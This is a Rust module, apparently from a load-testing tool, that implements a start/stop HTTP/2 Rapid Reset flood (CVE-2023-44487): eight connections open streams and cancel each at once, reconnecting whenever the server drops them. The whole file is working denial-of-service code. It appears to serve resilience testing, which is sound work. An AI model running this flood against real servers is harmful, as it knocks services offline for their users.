//! Calls that nobody means: each is taken back as soon as it is made (CVE-2023-44487), over connections that are made anew when the
//! server has had enough of them.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use anyhow::Context as _;
use h2::Reason;
use tokio::net::TcpStream;
use tokio::task::LocalSet;
use tokio::time::MissedTickBehavior;

use crate::load;
use crate::place::{asking_core, move_thread};

/// Connections at a time.
const CONNECTIONS: u32 = 8;
/// Between two handfuls of calls of one connection.
const PAUSE: Duration = Duration::from_millis(2);

/// A flood that goes on until it is stopped.
#[derive(Debug)]
pub struct Flood {
    over: Arc<AtomicBool>,
    calls: Arc<AtomicU64>,
    thread: Option<JoinHandle<anyhow::Result<()>>>,
}

impl Flood {
    /// About so many calls a second, on that server.
    pub fn start(server: SocketAddr, per_second: u32) -> Self {
        let (over, calls) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let thread = std::thread::spawn({
            let (over, calls) = (Arc::clone(&over), Arc::clone(&calls));
            move || {
                move_thread(None, asking_core())?;
                let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
                let local = LocalSet::new();
                let handful = u128::from(per_second / CONNECTIONS) * PAUSE.as_millis() / 1_000;
                local.block_on(&runtime, async {
                    let connections = (0..CONNECTIONS).map(|_| async {
                        while !over.load(Ordering::Relaxed) {
                            // That the server ends it is what it is for.
                            drop(connection(server, handful.max(1), &over, &calls).await);
                        }
                    });
                    futures::future::join_all(connections).await;
                });
                Ok(())
            }
        });
        Self { over, calls, thread: Some(thread) }
    }

    /// Ends it: how many calls there were.
    pub fn stop(mut self) -> anyhow::Result<u64> {
        self.over.store(true, Ordering::Relaxed);
        let thread = self.thread.take().context("it was started")?;
        thread.join().map_err(|_| anyhow::anyhow!("the flood panicked"))??;
        Ok(self.calls.load(Ordering::Relaxed))
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.over.store(true, Ordering::Relaxed);
    }
}

async fn connection(server: SocketAddr, handful: u128, over: &AtomicBool, calls: &AtomicU64) -> anyhow::Result<()> {
    let (mut sender, connection) = h2::client::handshake(TcpStream::connect(server).await?).await?;
    let driven = tokio::task::spawn_local(connection);
    let mut ticks = tokio::time::interval(PAUSE);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    while !over.load(Ordering::Relaxed) && !driven.is_finished() {
        ticks.tick().await;
        for _ in 0..handful {
            let (answer, mut stream) = load::begin(&mut sender, load::Call::Unary, server).await?;
            stream.send_reset(Reason::CANCEL);
            drop(answer);
            calls.fetch_add(1, Ordering::Relaxed);
        }
    }
    driven.abort();
    Ok(())
}
